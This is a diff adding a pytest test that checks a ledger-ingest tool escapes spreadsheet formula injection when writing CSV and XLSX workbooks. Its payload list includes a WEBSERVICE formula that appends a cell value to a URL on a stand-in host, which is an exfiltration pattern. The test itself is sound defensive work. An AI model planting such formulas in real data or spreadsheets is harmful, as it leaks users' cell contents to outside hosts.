@@ -467,3 +467,34 @@ def test_only_the_workbooks_accounts_and_no_lost_customers(setup):
     ledger.write_text(lost, encoding="utf-8")
     result = run_kam("ingest", ledger, wb, "--accounts-only", "--period", "2026-Q1")
     assert "New accounts: none" in result.stdout and "Customers scored: 3" in result.stdout  # A1, A2, C9 (now one)
+
+
+PAYLOADS = ('=WEBSERVICE("http://x.example/?"&B2)', '+HYPERLINK("http://x.example")', "@SUM(1+1)", "-2+3")
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_no_ledger_name_becomes_a_formula_in_the_workbook(tmp_path, tiny_path, kind):
+    ledger = tmp_path / "ventas.csv"
+    lines = [LEDGER.splitlines()[0]] + [
+        f"2025-12-0{i + 1},N{i},{payload.replace(chr(34), chr(34) * 2).join(chr(34) * 2)},P1,F1,J{i},1,100,50"
+        for i, payload in enumerate(PAYLOADS)
+    ]
+    ledger.write_text(LEDGER + "\n".join(lines[1:]) + "\n", encoding="utf-8")
+    if kind == "csv":
+        wb = tmp_path / "wb"
+        shutil.copytree(tiny_path, wb)
+    else:
+        wb = xlsx_from(tiny_path, tmp_path / "engagement.xlsx")
+    result = run_kam("ingest", ledger, wb)
+    assert result.returncode == 0, result.stderr
+    if kind == "csv":
+        with (wb / "accounts.csv").open(encoding="utf-8-sig", newline="") as f:
+            cells = [cell for row in csv.reader(f) for cell in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
+        assert {f"'{p}" for p in PAYLOADS} <= set(cells)
+    else:
+        from openpyxl import load_workbook
+
+        ws = load_workbook(wb)["accounts"]
+        kinds = {cell.value: cell.data_type for row in ws.iter_rows() for cell in row if cell.value in PAYLOADS}
+        assert kinds == dict.fromkeys(PAYLOADS, "s")
